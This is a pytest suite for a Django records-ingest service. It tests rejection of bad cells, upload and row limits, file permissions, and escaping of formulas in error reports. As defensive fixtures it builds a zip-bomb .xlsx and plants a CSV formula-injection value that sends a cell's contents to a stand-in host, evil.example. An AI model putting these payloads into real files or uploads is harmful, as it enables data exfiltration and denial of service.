"""Bad files and bad cells: a bad cell rejects its row (never the file), a file beyond a limit is refused
whole with a clear error and not kept, and quoted values never run as formulas in the error report."""

from __future__ import annotations

import csv
import io
import json
import stat
import time
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import Workbook

from gongxin.accounts.choices import Scope
from gongxin.accounts.services import api_client_create
from gongxin.ingest import parsing
from gongxin.ingest.choices import BatchStatus
from gongxin.ingest.errors import XlsxTooLarge
from gongxin.ingest.models import Batch, BatchIssue
from gongxin.ingest.services import batch_ingest_file
from gongxin.ingest.tests.conftest import csv_write, penalty_row, uscc_complete
from gongxin.records.models import Record

pytestmark = pytest.mark.django_db
BASE = "/api/v1/ingest"


def _rows(count: int) -> list[dict[str, str]]:
    return [penalty_row(number=f"甬市监罚〔2026〕{n}号", uscc=uscc_complete(f"91330200MA{n:07d}"),
                        name=f"宁波市第{n}号公司") for n in range(count)]


def _issues(batch: Batch, level: str = "error") -> set[tuple[int, str, str]]:
    return {(i.row_number, i.code, i.column) for i in BatchIssue.objects.filter(batch=batch, level=level)}


@pytest.fixture(params=[False, True], ids=["in-process", "forked-reader"])
def reader(request, monkeypatch, settings) -> bool:
    """Every bad-cell case in both readers: this process, and the forked reader of large files."""
    from gongxin.ingest import services

    settings.GONGXIN_INGEST_READER_PROCESS = request.param
    monkeypatch.setattr(services, "READER_PROCESS_MIN_BYTES", 0)
    return request.param


class TestBadCells:
    """A NUL, a cell over the limit, bytes that are not text: the row is rejected with its reason, the other
    rows load — after the first chunk too — and a re-run does not fail at the same place."""

    def test_a_nul_a_huge_cell_and_bad_bytes_reject_only_their_rows(self, tmp_path, market_unit, penalty, operator,
                                                                    frozen_today, reader):
        rows = _rows(12)
        rows[5]["违法事实"] = "抽检\x00不合格"  # row 7 of the file, in the second chunk
        rows[9]["处罚依据"] = "依" * (129 * 1024)  # row 11: a cell of 129 Ki characters
        path = csv_write(tmp_path / "bad.csv", rows)
        # Row 12: bytes that are not UTF-8, in an otherwise UTF-8 file.
        path.write_bytes(path.read_bytes().replace("宁波市第10号公司".encode(), "宁波市第10号".encode() + b"\xff\xfe"))
        batch = _run_file(path, market_unit, penalty, operator)
        assert batch.status == BatchStatus.DONE, batch.failure
        assert (batch.received, batch.inserted, batch.rejected) == (12, 9, 3)
        assert _issues(batch) == {(7, "nul_character", "违法事实"), (11, "cell_too_long", "处罚依据"),
                                  (12, "undecodable", "行政相对人名称")}
        nul = BatchIssue.objects.get(batch=batch, code="nul_character")
        assert "\x00" not in nul.value and "抽检" in nul.value
        assert "132096" in BatchIssue.objects.get(batch=batch, code="cell_too_long").reason_en
        assert batch.encoding == "utf-8"  # two stray bytes do not make a UTF-8 file GBK

        again = batch_ingest_file(path=path, source_unit=market_unit, item=penalty, actor=operator)
        assert again.status == BatchStatus.DONE and Record.objects.count() == 9

    def test_json_lines_with_a_nul_escape_a_lone_surrogate_and_a_huge_number(self, tmp_path, market_unit, penalty,
                                                                           operator, frozen_today, reader):
        lines = [json.dumps(row, ensure_ascii=False) for row in _rows(5)]
        lines[1] = lines[1].replace("抽检不合格。", "抽检\\u0000不合格。")
        lines[2] = lines[2].replace("抽检不合格。", "抽检\\ud800不合格。")
        lines[3] = '{"行政相对人名称": ' + "9" * 5000 + "}"  # more digits than Python converts
        path = tmp_path / "rows.jsonl"
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        batch = batch_ingest_file(path=path, source_unit=market_unit, item=penalty, actor=operator)
        assert batch.status == BatchStatus.DONE, batch.failure
        assert (batch.received, batch.inserted, batch.rejected) == (5, 2, 3)
        assert _issues(batch) == {(2, "nul_character", "违法事实"), (3, "undecodable", "违法事实"),
                                  (4, "unreadable_row", "")}


def _run_file(path: Path, market_unit, penalty, operator) -> Batch:
    """``gongxin ingest`` of the file in chunks of 4 rows (bad rows after the first chunk)."""
    from gongxin.ingest import services

    batch = services.batch_for_file(path=path, source_unit=market_unit, item=penalty, actor=operator)
    return services.batch_run(batch_id=batch.pk, path=path, actor=operator, chunk_size=4)


@pytest.fixture
def market_key(market_unit) -> str:
    _, key = api_client_create(name="市场监管归集系统", department=market_unit.department, scopes=[Scope.RECORDS_WRITE])
    return key


class TestPush:
    def test_a_large_push_with_a_nul_rejects_that_row_and_the_batch_ends(self, client, market_key, frozen_today):
        """Over 10 MB the door's NUL check does not read the body: the push itself must cope."""
        records = _rows(3)
        records[1]["违法事实"] = "抽检\x00不合格" + " " * (11 * 1024 * 1024)
        response = client.post(f"{BASE}/push", {"source_unit": "NB-SCJG", "item": "penalty", "records": records,
                                                "idempotency_key": "big-nul"},
                               content_type="application/json", headers={"X-API-Key": market_key})
        assert response.status_code == 200, response.content[:500]
        body = response.json()
        assert body["batch"]["status"] == "done"
        assert [r["outcome"] for r in body["results"]] == ["inserted", "rejected", "inserted"]
        assert body["results"][1]["issues"][0]["code"] == "nul_character"
        assert not Batch.objects.filter(status=BatchStatus.RUNNING).exists()

    def test_a_nul_in_the_idempotency_key_is_refused(self, client, market_key):
        from gongxin.ingest.services import batch_push

        del client
        from gongxin.accounts.viewer import Viewer
        from gongxin.catalog.models import CatalogItem, SourceUnit
        from gongxin.core.errors import ValidationFailed

        unit = SourceUnit.objects.get(department__code="NB-SCJG")
        item = CatalogItem.objects.get(code="penalty", edition__is_current=True)
        actor = Viewer(label="client", role="operator", department_id=unit.pk, scopes=frozenset({Scope.RECORDS_WRITE}))
        with pytest.raises(ValidationFailed) as refused:
            batch_push(source_unit=unit, item=item, records=_rows(1), idempotency_key="k\x00", actor=actor)
        assert refused.value.code == "ingest.nul_character"
        assert not Batch.objects.exists()


# --- .xlsx ---------------------------------------------------------------------------------------------

def _xlsx(path: Path, sheet_rows: str, *, dimension: str = "A1:XFD1048576") -> Path:
    """An .xlsx whose first sheet holds the penalty headers, then ``sheet_rows`` (raw <row> XML)."""
    row = penalty_row()
    workbook = Workbook()
    workbook.active.append(list(row))
    base = path.with_suffix(".base.xlsx")
    workbook.save(base)
    header = "".join(f'<c t="inlineStr"><is><t>{h}</t></is></c>' for h in row)
    sheet = (f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             f'<dimension ref="{dimension}"/><sheetData><row r="1">{header}</row>{sheet_rows}</sheetData></worksheet>')
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = sheet.encode() if info.filename == "xl/worksheets/sheet1.xml" else source.read(info.filename)
            target.writestr(info.filename, data)
    base.unlink()
    return path


def _data_row(number: int, **cells: str) -> str:
    values = list(penalty_row(number=f"甬市监罚〔2026〕x{number}号", **cells).values())
    return f'<row r="{number}">' + "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in values) + "</row>"


class TestXlsx:
    def test_reading_stops_after_many_empty_rows(self, tmp_path, market_unit, penalty, operator, frozen_today):
        """A sheet of 100,000 empty rows 16,384 columns wide once kept ingest busy for minutes without a row."""
        rows = _data_row(2) + "".join(f'<row r="{n}"/>' for n in range(3, 100_003)) + _data_row(100_003)
        path = _xlsx(tmp_path / "empty.xlsx", rows)
        started = time.monotonic()
        batch = batch_ingest_file(path=path, source_unit=market_unit, item=penalty, actor=operator)
        assert time.monotonic() - started < 20
        assert batch.status == BatchStatus.DONE, batch.failure
        assert (batch.received, batch.inserted) == (1, 1)
        assert _issues(batch, "warning") >= {(1002, "empty_rows_stop", "")}

    def test_a_zip_bomb_is_refused_before_it_is_opened(self, client, tmp_path, operator_user, settings):
        settings.MEDIA_ROOT = tmp_path / "media"
        cell = "A" * (40 * 1024 * 1024)  # 40 MiB of one letter packs into ~40 KiB
        path = _xlsx(tmp_path / "bomb.xlsx", f'<row r="2"><c t="inlineStr"><is><t>{cell}</t></is></c></row>')
        assert path.stat().st_size < 300 * 1024
        with pytest.raises(XlsxTooLarge):
            parsing.table_open(path, item=_penalty())
        client.force_login(operator_user)
        response = client.post(f"{BASE}/batches", {"source_unit": "NB-SCJG", "item": "penalty",
                                                   "file": SimpleUploadedFile(path.name, path.read_bytes())})
        assert response.status_code == 422
        assert response.json()["code"] == "ingest.xlsx_too_large"
        assert response.json()["details"]["part"] == "xl/worksheets/sheet1.xml"
        assert not Batch.objects.exists()
        assert not [p for p in (tmp_path / "media").rglob("*") if p.is_file()]

    def test_the_unpacked_total_is_limited_too(self, tmp_path, settings):
        settings.GONGXIN_INGEST_XLSX_MAX_UNCOMPRESSED_BYTES = 10_000
        path = _xlsx(tmp_path / "big.xlsx", "".join(_data_row(n) for n in range(2, 40)))
        with pytest.raises(XlsxTooLarge) as refused:
            parsing.table_open(path, item=_penalty())
        assert refused.value.details["limit_bytes"] == 10_000


def _penalty():
    from gongxin.catalog.models import CatalogItem

    return CatalogItem.objects.get(code="penalty", edition__is_current=True)


# --- uploads -------------------------------------------------------------------------------------------

class TestUploads:
    def test_an_upload_over_the_limit_is_refused_and_not_kept(self, client, tmp_path, operator_user, settings):
        settings.MEDIA_ROOT = tmp_path / "media"
        settings.GONGXIN_INGEST_MAX_UPLOAD_BYTES = 2000
        path = csv_write(tmp_path / "p.csv", _rows(10))
        assert path.stat().st_size > 2000
        client.force_login(operator_user)
        response = client.post(f"{BASE}/batches", {"source_unit": "NB-SCJG", "item": "penalty",
                                                   "file": SimpleUploadedFile(path.name, path.read_bytes())})
        assert response.status_code == 413
        assert response.json()["code"] == "ingest.upload_too_large"
        assert response.json()["details"]["limit_bytes"] == 2000
        assert not Batch.objects.exists()
        assert not [p for p in (tmp_path / "media").rglob("*") if p.is_file()]

    def test_a_file_over_the_row_limit_fails_and_its_upload_is_removed(
        self, client, tmp_path, operator_user, settings, frozen_today, django_capture_on_commit_callbacks
    ):
        settings.MEDIA_ROOT = tmp_path / "media"
        settings.GONGXIN_INGEST_MAX_ROWS = 5
        path = csv_write(tmp_path / "p.csv", _rows(8))
        client.force_login(operator_user)
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(f"{BASE}/batches", {"source_unit": "NB-SCJG", "item": "penalty",
                                                       "file": SimpleUploadedFile(path.name, path.read_bytes())})
        assert response.status_code == 202
        batch = Batch.objects.get()
        assert batch.status == BatchStatus.FAILED and "ingest.too_many_rows" in batch.failure
        assert not batch.file
        assert not [p for p in (tmp_path / "media").rglob("*") if p.is_file()]

    def test_stored_uploads_are_readable_by_the_platform_only(self, client, tmp_path, operator_user, settings):
        settings.MEDIA_ROOT = tmp_path / "media"
        path = csv_write(tmp_path / "p.csv", _rows(1))
        client.force_login(operator_user)
        response = client.post(f"{BASE}/batches", {"source_unit": "NB-SCJG", "item": "penalty",
                                                   "file": SimpleUploadedFile(path.name, path.read_bytes())})
        assert response.status_code == 202
        stored = Path(Batch.objects.get().file.path)
        assert stat.S_IMODE(stored.stat().st_mode) == 0o600
        assert stat.S_IMODE(stored.parent.stat().st_mode) == 0o700


# --- the error report ----------------------------------------------------------------------------------

def test_the_error_report_never_runs_a_formula(client, tmp_path, operator_user, market_unit, penalty, operator,
                                               frozen_today):
    rows = _rows(3)
    rows[0]["罚款金额（万元）"] = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
    rows[1]["处罚决定日期"] = "@SUM(1+1)"
    rows[2]["罚款金额（万元）"] = "-2"
    batch = batch_ingest_file(path=csv_write(tmp_path / "f.csv", rows), source_unit=market_unit, item=penalty,
                              actor=operator)
    client.force_login(operator_user)
    for url in (f"{BASE}/batches/{batch.pk}/errors.csv", f"/ingest/batches/{batch.pk}/errors.csv"):
        body = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
        values = {(row[0], row[3]) for row in list(csv.reader(io.StringIO(body)))[1:] if row[1] == "error"}
        assert values >= {("2", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此\")"), ("3", "'@SUM(1+1)"),
                          ("4", "'-2")}  # as written, in 万元
        assert not [value for _row, value in values if value[:1] in "=+-@"]
    output = tmp_path / "report.csv"
    call_command("ingest", "report", str(batch.pk), "--output", str(output))
    written = output.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in written and ",=HYPERLINK" not in written
